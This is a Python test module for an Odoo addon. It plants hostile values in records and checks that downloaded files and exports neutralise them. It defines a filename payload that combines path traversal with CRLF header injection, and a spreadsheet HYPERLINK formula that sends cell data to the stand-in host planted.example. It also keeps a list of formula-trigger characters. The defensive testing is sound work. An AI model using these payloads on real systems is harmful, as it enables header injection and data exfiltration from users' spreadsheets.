"""What is planted in texts, in the files that come of them: names, tabs, cells."""

import csv
import io
import json

import openpyxl
from attack_planting import Planting

from odoo.http import Request
from odoo.tests import tagged
from odoo.tools import mute_logger

from odoo.addons.mines_to_markets.tests import tried

# a line of a header of its own, and a name that leads elsewhere
HEADER = '../../P"; filename="x.html\r\nX-Planted: 1\r\n\r\n<b>'
FORMULA = '=HYPERLINK("http://planted.example/?"&A1)'
WORKBOOK = b"PK"
NO_TAB_HAS = set("[]:*?/\\")
CALCULATED = ("=", "+", "-", "@", "\t", "\r")
TABLES = {
    "asm.ledger": "program_id",
    "account.analytic.line": "name",
    "asm.budget.line": "name",
    "asm.indicator": "name",
}


class PlantedFiles(Planting):
    def _files(self, records):
        """Yield addresses that hand out files, with whom they are for."""
        made = {record._name: record for record in records}
        for rule, method, is_json in self._our_routes():
            if method != "GET" or is_json:
                continue
            own = {
                name: (made.get(self._model_of(rule, name)) or self.engagement).id
                for name in self._numbers(rule)
            }
            for url in self._addresses(rule, own | {"page": 1}):
                yield url, "porter" if url.startswith("/my") else "admin"
        for report in self.env["ir.actions.report"].search([]):
            if report.model in made and report.report_type == "xlsx":
                ids = made[report.model].ids[0]
                yield f"/report/xlsx/{report.report_name}/{ids}", "admin"
        file = self.env["ir.attachment"].create({"name": self.planted, "raw": b"a"})
        file.write({"res_model": "mtm.engagement", "res_id": self.engagement.id})
        yield f"/web/content/{file.id}?download=1", "admin"

    def _answers(self, records):
        """Yield ``(address, answer)`` of files alone."""
        role = None
        for url, whose in sorted(self._files(records), key=lambda one: one[1]):
            if role != whose:
                role, login = whose, self.users[whose].login
                self.authenticate(login, login)
            answer = self._ask_for(url, "GET", False)
            self.assertLess(answer.status_code, 500, url)
            if answer.headers.get("Content-Disposition"):
                yield url, answer


@tagged("post_install", "-at_install")
class TestAttackFileNames(PlantedFiles):
    planted = HEADER

    def test_a_name_is_no_header(self):
        records, _count = self._plant()
        seen = 0
        for url, answer in self._answers(records):
            with self.subTest(url=url):
                self.assertNotIn("X-Planted", answer.headers)
                said = answer.headers["Content-Disposition"]
                kind, _, name = said.partition(";")
                self.assertIn(kind, ("attachment", "inline"))
                self.assertNotRegex(said, r"[\r\n]")
                names = name.count("filename=") + name.count("filename*=")
                self.assertLessEqual(names, 2, said)
                seen += 1
        self.assertGreater(seen, 5)
        tried.attack("Headers in the names of files", "encoded names", seen)


@tagged("post_install", "-at_install")
class TestAttackFormulas(PlantedFiles):
    planted = FORMULA

    def test_tabs_and_cells_of_workbooks(self):
        records, _count = self._plant()
        seen = 0
        for url, answer in self._answers(records):
            if not answer.content.startswith(WORKBOOK):
                continue
            with self.subTest(url=url):
                seen += self._check_workbook(answer.content)
        self.assertGreater(seen, 3)
        tried.attack("Formulas in texts, in tabs and cells", "texts", seen)

    def _check_workbook(self, content):
        """Return in how many cells and tabs what was planted stands."""
        book = openpyxl.load_workbook(io.BytesIO(content))
        seen = 0
        for sheet in book:
            self.assertFalse(set(sheet.title) & NO_TAB_HAS, sheet.title)
            self.assertLessEqual(len(sheet.title), 31)
            seen += "HYPERLINK" in sheet.title
            for row in sheet.iter_rows():
                for cell in row:
                    # from one tab to another, and nowhere else
                    self.assertFalse(cell.hyperlink and cell.hyperlink.target, cell)
                    if "planted.example" in str(cell.value or ""):
                        self.assertNotEqual(cell.data_type, "f", cell)
                        seen += 1
        return seen

    def test_tables_that_are_taken_out(self):
        """The ledger and its like, as Odoo's own list writes them."""
        records, _count = self._plant()
        models = {record._name for record in records}
        login = self.administrator.login
        self.authenticate(login, login)
        seen = 0
        for model, name in TABLES.items():
            self.assertIn(model, models | {"asm.ledger", "account.analytic.line"})
            asked = {
                "model": model,
                "fields": [{"name": name, "label": name, "type": "char"}],
                "ids": False,
                "domain": [],
                "import_compat": False,
                "context": {},
            }
            with self.subTest(model=model), mute_logger("odoo.http"):
                answer = self.url_open(
                    "/web/export/csv",
                    data={
                        "data": json.dumps(asked),
                        "csrf_token": Request.csrf_token(self),
                    },
                )
                self.assertEqual(answer.status_code, 200, answer.text[:300])
                for row in csv.reader(io.StringIO(answer.text)):
                    for cell in row:
                        self.assertFalse(cell.startswith(CALCULATED), cell)
                        seen += "HYPERLINK" in cell
        self.assertGreater(seen, 1)
        tried.attack("Formulas in texts, in tables", "guarded", seen)
